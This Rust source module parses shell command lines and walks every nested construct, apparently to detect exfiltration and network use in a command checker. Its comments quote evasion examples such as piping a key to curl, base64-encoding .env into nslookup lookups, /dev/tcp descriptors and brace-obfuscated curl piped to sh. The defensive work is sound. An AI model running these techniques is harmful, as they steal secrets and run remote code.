//! From a command line to an [`Analysis`]: parsed by brush-parser (bounded in size and nesting,
//! panics caught), then a walk over the whole tree. Every simple command anywhere becomes a
//! [`SimpleCommand`]: in pipelines, `&&`/`||` lists, `!`, subshells, brace groups, every branch
//! of `if` and `case`, loop bodies, function bodies (analysed where defined, and again at each
//! call with the call's arguments as `$1`…), `[[ … ]]`. A compound command inside a pipeline
//! (`{ cat key; } | curl -T - …`) has its commands joined to that pipeline. Command
//! substitutions, process substitutions and the substitutions of here-strings and
//! here-documents are analysed as nested command lines, attached to the command that holds
//! them. Within the line it follows literal variables, `cd`/`pushd` (scoped to subshells;
//! into an unknown place after an `if` whose branches disagree or a loop that moves) and
//! prefix assignments.

use std::cell::Cell;
use std::rc::Rc;

use brush_parser::ast;

use super::command::{simple, Dir, SimpleCommand};
use super::evaluated;
use super::expand::Vars;
use super::words::{convert, convert_heredoc, Word, PROC_MARK, SUB_MARK};
use super::{Analysis, Unanalysable, MAX_COMMAND, MAX_DEPTH, MAX_NESTING};

/// Most tokens of a line handed to the parser; more is unanalysable
/// ([`Unanalysable::TooLong`]): a real command has a few hundred, and a flood of them
/// (`;;;;…` before the payload) is a way to hide one.
const MAX_TOKENS: usize = 20_000;
/// Most values of a literal `for` list the body is analysed with (one pass each).
const MAX_FOR_VALUES: usize = 16;
/// Most functions remembered for one line.
const MAX_FUNCTIONS: usize = 64;
/// How much source (characters) one line may have walked again for function calls and
/// loop values, shared by the lines nested in it: past it a loop body is analysed once with
/// its variable unknown and a call is left as a call (the body was analysed where defined).
const EXPANSION_BUDGET: usize = 64 * 1024;

thread_local! {
    /// True while brush-parser runs on this thread: a panic in it is caught and reported as
    /// unanalysable, so the panic message is not printed.
    static IN_PARSE: Cell<bool> = const { Cell::new(false) };
}

/// Parses `text` with brush-parser, or says why it cannot be analysed.
fn parse(text: &str) -> Result<ast::Program, Unanalysable> {
    if text.len() > MAX_COMMAND {
        return Err(Unanalysable::TooLong);
    }
    if nesting(text) > MAX_NESTING {
        return Err(Unanalysable::TooDeep);
    }
    static QUIET_HOOK: std::sync::Once = std::sync::Once::new();
    QUIET_HOOK.call_once(|| {
        let previous = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info| {
            if !IN_PARSE.with(Cell::get) {
                previous(info);
            }
        }));
    });
    IN_PARSE.with(|f| f.set(true));
    let result = std::panic::catch_unwind(|| {
        let opts = brush_parser::ParserOptions::default();
        let tokens = brush_parser::uncached_tokenize_str(text, &opts.tokenizer_options())
            .map_err(|e| e.to_string())?;
        if tokens.len() > MAX_TOKENS {
            return Ok(None);
        }
        brush_parser::parse_tokens(&tokens, &opts)
            .map(Some)
            .map_err(|e| e.to_string())
    });
    IN_PARSE.with(|f| f.set(false));
    match result {
        Ok(Ok(Some(p))) => Ok(p),
        Ok(Ok(None)) => Err(Unanalysable::TooLong),
        Ok(Err(e)) => Err(Unanalysable::Unparsable(
            crate::text::cap(&e, 160).to_string(),
        )),
        Err(_) => Err(Unanalysable::Panic),
    }
}

/// The deepest nesting of `(`, `{`, backticks and `if`/`case`/`for`/`while`/`until`/`select`
/// in `text`, quotes not considered and a closer that does not match the innermost opener
/// ignored (an over-estimate): a cheap bound on how deep brush-parser's recursive descent
/// would go.
pub(super) fn nesting(text: &str) -> usize {
    let b = text.as_bytes();
    let mut open: Vec<u8> = Vec::new();
    let mut max = 0usize;
    let close = |open: &mut Vec<u8>, kind: u8| {
        if open.last() == Some(&kind) {
            open.pop();
        }
    };
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            c @ (b'(' | b'{') => open.push(c),
            b')' => close(&mut open, b'('),
            b'}' => close(&mut open, b'{'),
            b'`' if open.last() == Some(&b'`') => {
                open.pop();
            }
            b'`' => open.push(b'`'),
            c if c.is_ascii_alphabetic() && (i == 0 || !is_word_byte(b[i - 1])) => {
                let start = i;
                while i < b.len() && is_word_byte(b[i]) {
                    i += 1;
                }
                match &b[start..i] {
                    b"if" => open.push(b'i'),
                    b"case" => open.push(b'c'),
                    b"for" | b"while" | b"until" | b"select" => open.push(b'l'),
                    b"fi" => close(&mut open, b'i'),
                    b"esac" => close(&mut open, b'c'),
                    b"done" => close(&mut open, b'l'),
                    _ => {}
                }
                max = max.max(open.len());
                continue;
            }
            _ => {}
        }
        max = max.max(open.len());
        i += 1;
    }
    max
}

fn is_word_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

/// What the walk carries into a nested line: depth, where it runs, the variables and the
/// functions it can call.
#[derive(Clone)]
pub(super) struct Ctx {
    pub(super) depth: usize,
    pub(super) dir: Dir,
    pub(super) vars: Vars,
    funcs: Vec<(String, Rc<ast::FunctionBody>)>,
    /// What is left of [`EXPANSION_BUDGET`], shared with nested lines.
    budget: Rc<Cell<usize>>,
}

impl Ctx {
    /// The context of a top-level line (or a script run by a new shell: no functions).
    pub(super) fn new(depth: usize, dir: &Dir, vars: &Vars) -> Ctx {
        Ctx {
            depth,
            dir: dir.clone(),
            vars: vars.clone(),
            funcs: Vec::new(),
            budget: Rc::new(Cell::new(EXPANSION_BUDGET)),
        }
    }

    /// Takes the cost of walking a body `times` times again (its length in characters each
    /// time) from the budget; false, taking nothing, when not enough is left.
    fn spend(&self, body: Option<brush_parser::SourceSpan>, times: usize) -> bool {
        let once = body.map_or(1024, |s| s.end.index.saturating_sub(s.start.index).max(1));
        let cost = once.saturating_mul(times);
        let left = self.budget.get();
        if cost > left {
            return false;
        }
        self.budget.set(left - cost);
        true
    }
}

/// Analyses the command line `text` in `ctx`.
pub(super) fn analyze_text(text: &str, ctx: Ctx) -> Analysis {
    let program = match parse(text) {
        Ok(p) => p,
        Err(why) => {
            let mut a = Analysis::default();
            a.mark(why);
            return a;
        }
    };
    let mut w = Walker::new(ctx);
    for list in &program.complete_commands {
        w.list(list);
    }
    w.finish()
}

/// A simple command with the nested analyses of its words.
struct Cmd {
    c: SimpleCommand,
    nested: Vec<Analysis>,
}

/// What a redirection list gives a command.
#[derive(Default)]
struct Redirs {
    writes: Vec<String>,
    reads: Vec<String>,
    heredoc: Option<String>,
    substitution: bool,
    nested: Vec<Analysis>,
    /// `N< FILE`, `N> FILE`, `N<> FILE` with N ≥ 3: the descriptor opened on FILE (kept by
    /// `exec` for the rest of the line).
    binds: Vec<(i32, String)>,
    /// `<&N`, `>&N`, `>&${COPROC[1]}`: a descriptor duplicated, as `(input, target as
    /// written)`.
    dups: Vec<(bool, String)>,
}

struct Walker {
    ctx: Ctx,
    /// Finished pipelines, in order.
    out: Vec<Vec<Cmd>>,
    /// Nested analyses no command owns (a `case` word, a `for` list, `(( … ))`).
    orphans: Vec<Analysis>,
    /// Functions being expanded (no recursion).
    calling: Vec<String>,
    too_deep: bool,
    /// Descriptors `exec` opened on files (`exec 3< .env`, `exec 3<>/dev/tcp/h/80`), and
    /// coprocesses that reach the network (`coproc:NAME` → a `/dev/tcp/` stand-in), as
    /// `(key, path)`; at most 16.
    fds: Vec<(String, String)>,
}

impl Walker {
    fn new(ctx: Ctx) -> Walker {
        Walker {
            ctx,
            out: Vec::new(),
            orphans: Vec::new(),
            calling: Vec::new(),
            too_deep: false,
            fds: Vec::new(),
        }
    }

    fn finish(self) -> Analysis {
        let mut a = Analysis::default();
        for pipe in self.out {
            if pipe.is_empty() {
                continue;
            }
            let pi = a.pipelines.len();
            let mut p = Vec::with_capacity(pipe.len());
            for (ci, cmd) in pipe.into_iter().enumerate() {
                for n in cmd.nested {
                    a.nested.push((pi, ci, n));
                }
                p.push(cmd.c);
            }
            a.pipelines.push(p);
        }
        for n in self.orphans {
            a.nested.push((usize::MAX, usize::MAX, n));
        }
        if self.too_deep || self.ctx.depth >= MAX_DEPTH {
            a.mark(Unanalysable::TooDeep);
        }
        super::runs::finish(&mut a, self.ctx.depth, &self.ctx.vars);
        a.propagate();
        a
    }

    /// Analyses the command line `text` (a substitution's body) as a nested one.
    fn nested_text(&mut self, text: &str) -> Analysis {
        if self.ctx.depth >= MAX_DEPTH {
            self.too_deep = true;
            return Analysis::default();
        }
        let mut ctx = self.ctx.clone();
        ctx.depth += 1;
        analyze_text(text, ctx)
    }

    /// Analyses a process substitution's commands as a nested line.
    fn nested_list(&mut self, list: &ast::CompoundList) -> Analysis {
        if self.ctx.depth >= MAX_DEPTH {
            self.too_deep = true;
            return Analysis::default();
        }
        let mut ctx = self.ctx.clone();
        ctx.depth += 1;
        let mut w = Walker::new(ctx);
        w.list(list);
        w.finish()
    }

    /// Converts a word and analyses its substitutions, and the code its arithmetic
    /// expansions evaluate (`$((x))` with `x='a[$(…)]'`).
    fn word(&mut self, raw: &str, nested: &mut Vec<Analysis>) -> Word {
        let w = convert(raw, &self.ctx.vars);
        for s in &w.subs {
            let n = self.nested_text(s);
            nested.push(n);
        }
        if raw.contains("$((") {
            let mut code = Vec::new();
            for body in evaluated::arithmetic_bodies(raw) {
                code.extend(evaluated::arithmetic(body, &self.ctx.vars));
            }
            for t in code {
                let n = self.nested_text(&t);
                nested.push(n);
            }
        }
        w
    }

    /// The state a branch starts from and ends in.
    fn state(&self) -> (Dir, Vars) {
        (self.ctx.dir.clone(), self.ctx.vars.clone())
    }

    fn restore(&mut self, s: (Dir, Vars)) {
        self.ctx.dir = s.0;
        self.ctx.vars = s.1;
    }

    /// After branches (or a loop that may run any number of times): the directory they
    /// agree on, else unknown; the variables they agree on.
    fn merge(&mut self, ends: Vec<(Dir, Vars)>) {
        let Some(((d0, _), rest)) = ends.split_first() else {
            return;
        };
        self.ctx.dir = if rest.iter().all(|(d, _)| d == d0) {
            d0.clone()
        } else {
            Dir::Unknown
        };
        let vars: Vec<&Vars> = ends.iter().map(|(_, v)| v).collect();
        self.ctx.vars = Vars::merge(&vars);
    }

    /// Runs `f` in a subshell: `cd`, variables and functions do not leak out.
    fn scoped(&mut self, f: impl FnOnce(&mut Self)) {
        let saved = self.ctx.clone();
        f(self);
        self.ctx = saved;
    }

    fn list(&mut self, list: &ast::CompoundList) {
        for ast::CompoundListItem(and_or, sep) in &list.0 {
            if matches!(sep, ast::SeparatorOperator::Async) {
                // A background job runs in a subshell.
                self.scoped(|w| w.and_or(and_or));
            } else {
                self.and_or(and_or);
            }
        }
    }

    fn and_or(&mut self, a: &ast::AndOrList) {
        self.pipeline(&a.first);
        for next in &a.additional {
            let (ast::AndOr::And(p) | ast::AndOr::Or(p)) = next;
            self.pipeline(p);
        }
    }

    fn pipeline(&mut self, p: &ast::Pipeline) {
        if let [c] = p.seq.as_slice() {
            self.command(c);
            return;
        }
        // Each element runs in a subshell; the commands of a compound element join the
        // pipeline (their output is what flows on).
        let mut joined = Vec::new();
        for c in &p.seq {
            let start = self.out.len();
            self.scoped(|w| w.command(c));
            for pipe in self.out.drain(start..) {
                joined.extend(pipe);
            }
        }
        self.out.push(joined);
    }

    fn command(&mut self, c: &ast::Command) {
        match c {
            ast::Command::Simple(sc) => self.simple(sc),
            ast::Command::Compound(cc, redirects) => {
                let start = self.out.len();
                self.compound(cc);
                if let Some(r) = redirects {
                    let rd = self.redirects(&r.0);
                    self.attach(start, rd);
                }
            }
            ast::Command::Function(f) => self.define(f),
            ast::Command::ExtendedTest(t, redirects) => {
                let mut nested = Vec::new();
                let mut raw = Vec::new();
                test_words(&t.expr, &mut raw);
                let mut words = vec![("[[".to_string(), false)];
                for r in raw {
                    let w = self.word(r, &mut nested);
                    let sub = w.substitution || w.computed;
                    words.extend(w.fields.into_iter().map(|f| (f, sub)));
                }
                // `-v NAME[…]` and arithmetic comparisons evaluate code in their operands.
                let mut evaluated = Vec::new();
                test_evaluated(&t.expr, &mut evaluated);
                for (raw, arith) in evaluated {
                    let text = convert(raw, &self.ctx.vars).joined();
                    let code = if arith {
                        evaluated::arithmetic(&text, &self.ctx.vars)
                    } else {
                        evaluated::arithmetic(
                            &format!("x[{}]", subscript_of(&text)),
                            &self.ctx.vars,
                        )
                    };
                    for c in code {
                        let n = self.nested_text(&c);
                        nested.push(n);
                    }
                }
                let rd = redirects
                    .as_ref()
                    .map(|r| self.redirects(&r.0))
                    .unwrap_or_default();
                self.push_simple(words, rd, nested, Vec::new());
            }
        }
    }

    /// Gives the redirections of a compound command to the commands it ran: writes to the
    /// last, reads and stdin text to the first (a command of its own when it ran none).
    fn attach(&mut self, start: usize, rd: Redirs) {
        let empty = rd.writes.is_empty()
            && rd.reads.is_empty()
            && rd.heredoc.is_none()
            && rd.nested.is_empty();
        if empty {
            return;
        }
        if self.out[start..].iter().all(Vec::is_empty) {
            self.push_simple(Vec::new(), rd, Vec::new(), Vec::new());
            return;
        }
        let Redirs {
            writes,
            reads,
            heredoc,
            substitution,
            nested,
            ..
        } = rd;
        if let Some(last) = self.out[start..]
            .iter_mut()
            .rev()
            .find_map(|p| p.last_mut())
        {
            last.c.redirect_writes.extend(writes);
            last.nested.extend(nested);
        }
        if let Some(first) = self.out[start..].iter_mut().find_map(|p| p.first_mut()) {
            first.c.redirect_reads.extend(reads);
            if let Some(h) = heredoc {
                feed(&mut first.c.heredoc, h);
            }
            first.c.has_substitution |= substitution;
        }
    }

    fn compound(&mut self, cc: &ast::CompoundCommand) {
        match cc {
            ast::CompoundCommand::BraceGroup(g) => self.list(&g.list),
            ast::CompoundCommand::Subshell(s) => self.scoped(|w| w.list(&s.list)),
            ast::CompoundCommand::IfClause(i) => {
                self.list(&i.condition);
                let before = self.state();
                let mut ends = Vec::new();
                self.list(&i.then);
                ends.push(self.state());
                let mut has_else = false;
                for e in i.elses.iter().flatten() {
                    self.restore(before.clone());
                    match &e.condition {
                        Some(cond) => {
                            self.list(cond);
                            let after_cond = self.state();
                            self.list(&e.body);
                            ends.push(self.state());
                            // Its condition may fail too: the next branch starts here.
                            self.restore(after_cond.clone());
                            ends.push(after_cond);
                        }
                        None => {
                            has_else = true;
                            self.list(&e.body);
                            ends.push(self.state());
                        }
                    }
                }
                if !has_else {
                    ends.push(before);
                }
                self.merge(ends);
            }
            ast::CompoundCommand::CaseClause(c) => {
                let mut nested = Vec::new();
                self.word(&c.value.value, &mut nested);
                let before = self.state();
                let mut ends = vec![before.clone()];
                for item in &c.cases {
                    self.restore(before.clone());
                    for p in &item.patterns {
                        self.word(&p.value, &mut nested);
                    }
                    if let Some(body) = &item.cmd {
                        self.list(body);
                    }
                    ends.push(self.state());
                }
                self.orphans.extend(nested);
                self.merge(ends);
            }
            ast::CompoundCommand::ForClause(f) => self.for_clause(f),
            ast::CompoundCommand::ArithmeticForClause(f) => {
                for e in [&f.initializer, &f.condition, &f.updater]
                    .into_iter()
                    .flatten()
                {
                    self.arithmetic(&e.value);
                }
                self.looped(|w| w.list(&f.body.list));
            }
            ast::CompoundCommand::WhileClause(ast::WhileOrUntilClauseCommand(cond, body, _))
            | ast::CompoundCommand::UntilClause(ast::WhileOrUntilClauseCommand(cond, body, _)) => {
                self.looped(|w| {
                    w.list(cond);
                    w.list(&body.list);
                });
            }
            ast::CompoundCommand::Arithmetic(a) => self.arithmetic(&a.expr.value),
            ast::CompoundCommand::Coprocess(c) => {
                let start = self.out.len();
                self.scoped(|w| w.command(&c.body));
                // Writing to a networked coprocess's descriptors sends to the network.
                let net = self.out[start..].iter().flatten().any(|x| x.c.is_network());
                if net && self.fds.len() < 16 {
                    let name = c.name.as_ref().map_or("COPROC", |n| n.value.as_str());
                    self.fds.push((
                        format!("coproc:{name}"),
                        format!("/dev/tcp/(coproc {name})"),
                    ));
                }
            }
        }
    }

    /// A loop body: analysed once; after it the state is what the body and "not run" agree on.
    fn looped(&mut self, f: impl FnOnce(&mut Self)) {
        let before = self.state();
        f(self);
        let after = self.state();
        self.merge(vec![before, after]);
    }

    /// `(( … ))`, `$(( … ))` outside a word: the substitutions in it.
    fn arithmetic(&mut self, expr: &str) {
        let mut nested = Vec::new();
        self.word(&format!("$(({expr}))"), &mut nested);
        self.orphans.extend(nested);
    }

    fn for_clause(&mut self, f: &ast::ForClauseCommand) {
        let name = f.variable_name.clone();
        let mut nested = Vec::new();
        let mut values = Vec::new();
        let mut literal = f.values.is_some();
        for v in f.values.iter().flatten() {
            let w = self.word(&v.value, &mut nested);
            literal &= !w.substitution && !w.computed && !w.fields.iter().any(|x| x.contains('$'));
            values.extend(w.fields);
        }
        // What the list's substitutions print is what the loop variable holds: it reaches the
        // body's commands that use the variable (`for c in $(base64 .env); do nslookup $c.x;
        // done` sends the file), as a function call's does.
        let feeds = nested.clone();
        self.orphans.extend(nested);
        let before = self.state();
        let mut ends = vec![before.clone()];
        let per_value = literal
            && !values.is_empty()
            && values.len() <= MAX_FOR_VALUES
            && self.ctx.spend(Some(f.body.loc.clone()), values.len() - 1);
        if per_value {
            for v in &values {
                self.restore(before.clone());
                self.ctx.vars.set(&name, v, false);
                self.list(&f.body.list);
                ends.push(self.state());
            }
        } else {
            self.ctx.vars.unset(&name);
            let start = self.out.len();
            self.list(&f.body.list);
            ends.push(self.state());
            if !feeds.is_empty() {
                let (plain, braced) = (format!("${name}"), format!("${{{name}"));
                for cmd in self.out[start..].iter_mut().flatten() {
                    if cmd
                        .c
                        .args
                        .iter()
                        .any(|a| a.contains(&plain) || a.contains(&braced))
                    {
                        cmd.nested.extend(feeds.iter().cloned());
                    }
                }
            }
        }
        self.merge(ends);
        if !per_value {
            self.ctx.vars.unset(&name);
        }
    }

    /// `name() { … }`: remembered for its calls, and its body analysed once as if run with
    /// unknown arguments (nothing it does changes the line's state).
    fn define(&mut self, f: &ast::FunctionDefinition) {
        let name = convert(&f.fname.value, &self.ctx.vars).joined();
        self.ctx.funcs.retain(|(n, _)| *n != name);
        if self.ctx.funcs.len() < MAX_FUNCTIONS {
            self.ctx.funcs.push((name.clone(), Rc::new(f.body.clone())));
        }
        self.calling.push(name);
        self.scoped(|w| {
            w.ctx.vars.positional = None;
            w.function_body(&f.body);
        });
        self.calling.pop();
    }

    fn function_body(&mut self, body: &ast::FunctionBody) {
        let start = self.out.len();
        self.compound(&body.0);
        if let Some(r) = &body.1 {
            let rd = self.redirects(&r.0);
            self.attach(start, rd);
        }
    }

    fn simple(&mut self, sc: &ast::SimpleCommand) {
        let mut words: Vec<(String, bool)> = Vec::new();
        let mut computed: Vec<String> = Vec::new();
        let mut nested = Vec::new();
        let mut redirs: Vec<&ast::IoRedirect> = Vec::new();
        let items = sc
            .prefix
            .iter()
            .flat_map(|p| p.0.iter())
            .map(Some)
            .chain(std::iter::once(None))
            .chain(sc.suffix.iter().flat_map(|s| s.0.iter()).map(Some));
        for item in items {
            let raw = match item {
                None => match &sc.word_or_name {
                    Some(w) => &w.value,
                    None => continue,
                },
                Some(ast::CommandPrefixOrSuffixItem::Word(w)) => &w.value,
                Some(ast::CommandPrefixOrSuffixItem::AssignmentWord(_, w)) => {
                    // `NAME=value` is one word: its value is not split.
                    let conv = self.word(&w.value, &mut nested);
                    let sub = conv.substitution || conv.computed;
                    words.push((conv.joined(), sub));
                    continue;
                }
                Some(ast::CommandPrefixOrSuffixItem::IoRedirect(r)) => {
                    redirs.push(r);
                    continue;
                }
                Some(ast::CommandPrefixOrSuffixItem::ProcessSubstitution(_, s)) => {
                    let n = self.nested_list(&s.list);
                    nested.push(n);
                    words.push((PROC_MARK.to_string(), true));
                    continue;
                }
            };
            // `{curl,-s,URL}|sh`: a brace-expanded program word is several words.
            if item.is_none() {
                if let Some(parts) = brace_words(raw) {
                    for part in parts {
                        let conv = self.word(&part, &mut nested);
                        let sub = conv.substitution || conv.computed;
                        words.extend(conv.fields.into_iter().map(|f| (f, sub)));
                    }
                    continue;
                }
            }
            let conv = self.word(raw, &mut nested);
            let sub = conv.substitution || conv.computed;
            if conv.computed {
                computed.extend(conv.fields.iter().cloned());
            }
            words.extend(conv.fields.into_iter().map(|f| (f, sub)));
        }
        let rd = self.redirects_of(&redirs);
        // A call of a function defined earlier in the line: its body with these arguments.
        let callee = words
            .first()
            .filter(|(w, _)| !w.contains('='))
            .and_then(|(w, _)| self.ctx.funcs.iter().find(|(n, _)| n == w))
            .map(|(n, b)| (n.clone(), b.clone()));
        if let Some((name, body)) = callee {
            if !self.calling.contains(&name)
                && self
                    .ctx
                    .spend(ast::SourceLocation::location(body.as_ref()), 1)
            {
                self.call(&name, &body, &words, nested);
                return;
            }
        }
        self.push_simple(words, rd, nested, computed);
    }

    fn call(
        &mut self,
        name: &str,
        body: &ast::FunctionBody,
        words: &[(String, bool)],
        nested: Vec<Analysis>,
    ) {
        let args: Vec<String> = words.iter().map(|(w, _)| w.clone()).take(64).collect();
        let saved = self.ctx.vars.positional.replace(args);
        self.calling.push(name.to_string());
        let start = self.out.len();
        self.function_body(body);
        self.calling.pop();
        self.ctx.vars.positional = saved;
        // What the call's substitutions produced reaches the commands that use the arguments.
        if !nested.is_empty() {
            for cmd in self.out[start..].iter_mut().flatten() {
                if cmd.c.args.iter().any(|a| a.contains(SUB_MARK)) {
                    cmd.nested.extend(nested.iter().cloned());
                }
            }
        }
    }

    /// Builds the command from its words and redirections and adds it as a pipeline of its
    /// own; `cd`/`pushd`/`popd` move the directory, assignments set variables.
    fn push_simple(
        &mut self,
        words: Vec<(String, bool)>,
        rd: Redirs,
        mut nested: Vec<Analysis>,
        computed: Vec<String>,
    ) {
        // `exec 3< F` opens a descriptor for the rest of the line; `<&3`, `>&3`,
        // `/dev/fd/3`, `>&${COPROC[1]}` use one.
        let exec_only = words.first().is_some_and(|(w, _)| w == "exec") && words.len() == 1;
        if exec_only {
            for (n, path) in &rd.binds {
                self.fds.retain(|(k, _)| *k != n.to_string());
                if self.fds.len() < 16 {
                    self.fds.push((n.to_string(), path.clone()));
                }
            }
        }
        let mut rd = rd;
        for (input, target) in rd.dups.clone() {
            let bound = self.fds.iter().find(|(k, _)| {
                *k == target
                    || k.strip_prefix("coproc:")
                        .is_some_and(|name| target.contains(name))
            });
            if let Some((_, path)) = bound {
                if input {
                    push_read(&mut rd.reads, path.clone());
                } else {
                    push_write(&mut rd.writes, path.clone());
                }
            }
        }
        for (w, _) in &words {
            if let Some((_, n)) = w.split_once("/dev/fd/") {
                let n: String = n.chars().take_while(char::is_ascii_digit).collect();
                if let Some((_, path)) = self.fds.iter().find(|(k, _)| *k == n) {
                    push_read(&mut rd.reads, path.clone());
                }
            }
        }
        let mut c = simple(words, rd.writes);
        c.redirect_reads = rd.reads;
        c.heredoc = rd.heredoc;
        c.has_substitution |= rd.substitution;
        c.dir = self.ctx.dir.clone();
        c.computed_program = computed.contains(&c.argv0) || c.argv0.contains(SUB_MARK);
        nested.extend(rd.nested);
        // Code kept in text bash evaluates (`trap 'CMD'`, `printf -v 'a[$(…)]'`, `PS4=…`).
        for t in evaluated::texts(&c, &self.ctx.vars) {
            let n = self.nested_text(&t);
            nested.push(n);
        }
        self.ctx.vars.apply(&c);
        match c.program.as_str() {
            "cd" | "pushd" => {
                self.ctx.dir = if c.has_substitution {
                    Dir::Unknown
                } else {
                    self.ctx.dir.cd(&c.args)
                };
            }
            "popd" => self.ctx.dir = Dir::Unknown,
            _ => {}
        }
        self.out.push(vec![Cmd { c, nested }]);
    }

    fn redirects(&mut self, list: &[ast::IoRedirect]) -> Redirs {
        let refs: Vec<&ast::IoRedirect> = list.iter().collect();
        self.redirects_of(&refs)
    }

    fn redirects_of(&mut self, list: &[&ast::IoRedirect]) -> Redirs {
        let mut rd = Redirs::default();
        for r in list {
            match r {
                ast::IoRedirect::File(fd_num, kind, target) => {
                    use ast::IoFileRedirectKind as K;
                    let input = matches!(kind, K::Read | K::DuplicateInput);
                    let path = match target {
                        ast::IoFileRedirectTarget::Filename(w) => {
                            let mut nested = Vec::new();
                            let conv = self.word(&w.value, &mut nested);
                            rd.nested.extend(nested);
                            rd.substitution |= conv.substitution;
                            let p = conv.joined();
                            if let Some(n) = fd_num.filter(|n| *n >= 3) {
                                rd.binds.push((n, p.clone()));
                            }
                            Some(p)
                        }
                        // `>&file` (not a descriptor): a file.
                        ast::IoFileRedirectTarget::Duplicate(w) => {
                            let mut nested = Vec::new();
                            let p = self.word(&w.value, &mut nested).joined();
                            rd.nested.extend(nested);
                            let fd = p.is_empty()
                                || p.trim_end_matches('-').chars().all(|c| c.is_ascii_digit());
                            rd.dups.push((input, p.trim_end_matches('-').to_string()));
                            if !fd {
                                rd.dups.push((input, w.value.clone()));
                            }
                            (!fd).then_some(p)
                        }
                        ast::IoFileRedirectTarget::Fd(n) => {
                            rd.dups.push((input, n.to_string()));
                            None
                        }
                        ast::IoFileRedirectTarget::ProcessSubstitution(_, s) => {
                            let n = self.nested_list(&s.list);
                            rd.nested.push(n);
                            rd.substitution = true;
                            None
                        }
                    };
                    let Some(path) = path else { continue };
                    match kind {
                        K::Read | K::DuplicateInput => push_read(&mut rd.reads, path),
                        K::Write | K::Append | K::Clobber | K::DuplicateOutput => {
                            push_write(&mut rd.writes, path);
                        }
                        K::ReadAndWrite => {
                            push_read(&mut rd.reads, path.clone());
                            push_write(&mut rd.writes, path);
                        }
                    }
                }
                ast::IoRedirect::HereDocument(_, h) => {
                    let w = convert_heredoc(&h.doc.value, h.requires_expansion, &self.ctx.vars);
                    for s in &w.subs {
                        let n = self.nested_text(s);
                        rd.nested.push(n);
                    }
                    rd.substitution |= w.substitution;
                    feed(&mut rd.heredoc, w.joined());
                }
                ast::IoRedirect::HereString(_, word) => {
                    let mut nested = Vec::new();
                    let w = self.word(&word.value, &mut nested);
                    rd.nested.extend(nested);
                    rd.substitution |= w.substitution;
                    feed(&mut rd.heredoc, w.joined());
                }
                ast::IoRedirect::OutputAndError(w, _) => {
                    let mut nested = Vec::new();
                    let p = self.word(&w.value, &mut nested).joined();
                    rd.nested.extend(nested);
                    push_write(&mut rd.writes, p);
                }
            }
        }
        rd
    }
}

/// The words bash's brace expansion makes of an unquoted word holding one `{A,B,…}` group
/// (`{curl,-s,x}` → `curl -s x`, `/usr/bin/{cu,xx}rl` → two words); `None` for a word without
/// one, with quotes, `$` or nested braces. At most 64 words.
fn brace_words(raw: &str) -> Option<Vec<String>> {
    if raw.contains(['\'', '"', '\\', '$', '`']) {
        return None;
    }
    let open = raw.find('{')?;
    let close = open + raw[open..].find('}')?;
    let inner = &raw[open + 1..close];
    if !inner.contains(',') || inner.contains('{') {
        return None;
    }
    let (pre, post) = (&raw[..open], &raw[close + 1..]);
    let parts: Vec<String> = inner
        .split(',')
        .take(64)
        .map(|p| format!("{pre}{p}{post}"))
        .filter(|w| !w.is_empty())
        .collect();
    (!parts.is_empty()).then_some(parts)
}

/// The words of a `[[ … ]]` expression, in order.
fn test_words<'a>(e: &'a ast::ExtendedTestExpr, out: &mut Vec<&'a str>) {
    match e {
        ast::ExtendedTestExpr::And(a, b) | ast::ExtendedTestExpr::Or(a, b) => {
            test_words(a, out);
            test_words(b, out);
        }
        ast::ExtendedTestExpr::Not(a) | ast::ExtendedTestExpr::Parenthesized(a) => {
            test_words(a, out);
        }
        ast::ExtendedTestExpr::UnaryTest(_, w) => out.push(&w.value),
        ast::ExtendedTestExpr::BinaryTest(_, a, b) => {
            out.push(&a.value);
            out.push(&b.value);
        }
    }
}

/// The operands of a `[[ … ]]` expression that bash evaluates: `(raw word, arithmetic)`, the
/// name of `-v NAME` (false) and both sides of `-eq`/`-ne`/`-lt`/`-le`/`-gt`/`-ge` (true).
fn test_evaluated<'a>(e: &'a ast::ExtendedTestExpr, out: &mut Vec<(&'a str, bool)>) {
    use ast::BinaryPredicate as B;
    match e {
        ast::ExtendedTestExpr::And(a, b) | ast::ExtendedTestExpr::Or(a, b) => {
            test_evaluated(a, out);
            test_evaluated(b, out);
        }
        ast::ExtendedTestExpr::Not(a) | ast::ExtendedTestExpr::Parenthesized(a) => {
            test_evaluated(a, out);
        }
        ast::ExtendedTestExpr::UnaryTest(ast::UnaryPredicate::ShellVariableIsSetAndAssigned, w) => {
            out.push((&w.value, false));
        }
        ast::ExtendedTestExpr::UnaryTest(..) => {}
        ast::ExtendedTestExpr::BinaryTest(op, a, b) => {
            if matches!(
                op,
                B::ArithmeticEqualTo
                    | B::ArithmeticNotEqualTo
                    | B::ArithmeticLessThan
                    | B::ArithmeticLessThanOrEqualTo
                    | B::ArithmeticGreaterThan
                    | B::ArithmeticGreaterThanOrEqualTo
            ) {
                out.push((&a.value, true));
                out.push((&b.value, true));
            }
        }
    }
}

/// The subscript of `NAME[SUBSCRIPT]`, or empty.
fn subscript_of(w: &str) -> &str {
    match (w.find('['), w.rfind(']')) {
        (Some(o), Some(c)) if c > o => &w[o + 1..c],
        _ => "",
    }
}

/// Records a file a command writes by redirection (not `/dev/null`, `/dev/std*`, `/dev/tty`).
fn push_write(writes: &mut Vec<String>, path: String) {
    let t = path.trim();
    if t.is_empty()
        || t.starts_with('&')
        || matches!(t, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty")
    {
        return;
    }
    writes.push(t.to_string());
}

/// Records a file a command reads by redirection.
fn push_read(reads: &mut Vec<String>, path: String) {
    if !path.is_empty() {
        reads.push(path);
    }
}

/// Appends `text` to a command's stdin text.
fn feed(slot: &mut Option<String>, text: String) {
    match slot {
        Some(h) => {
            h.push('\n');
            h.push_str(&text);
        }
        None => *slot = Some(text),
    }
}

#[cfg(test)]
mod tests;
